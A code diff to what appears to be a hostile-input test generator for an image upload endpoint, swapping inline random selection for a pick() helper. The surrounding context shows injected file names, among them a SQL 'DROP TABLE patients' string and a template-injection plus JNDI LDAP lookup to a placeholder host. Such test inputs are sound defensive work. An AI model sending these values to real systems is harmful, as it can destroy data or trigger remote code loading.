@@ -5,7 +5,7 @@ from __future__ import annotations
 import numpy as np
 from PIL import Image
 
-from hostile.building import ANY, Hostile, Rng, encode, head, kind, sent
+from hostile.building import ANY, Hostile, Rng, encode, head, kind, pick, sent
 
 
 @kind
@@ -24,7 +24,7 @@ def odd_modes(rng: Rng) -> Hostile:
         encode(image.convert("YCbCr"), "JPEG"),
         encode(image.convert("RGB").convert("LAB"), "TIFF"),
     )
-    return sent(choices[rng.integers(len(choices))], {200})
+    return sent(pick(rng, choices), {200})
 
 
 @kind
@@ -69,4 +69,4 @@ def path_like_names(rng: Rng) -> Hostile:
         "';DROP TABLE patients;--.png",
         "{{7*7}}${jndi:ldap://example.invalid/a}",
     )
-    return sent(encode(head(rng)), {200, 400}, names[rng.integers(len(names))])
+    return sent(encode(head(rng)), {200, 400}, pick(rng, names))
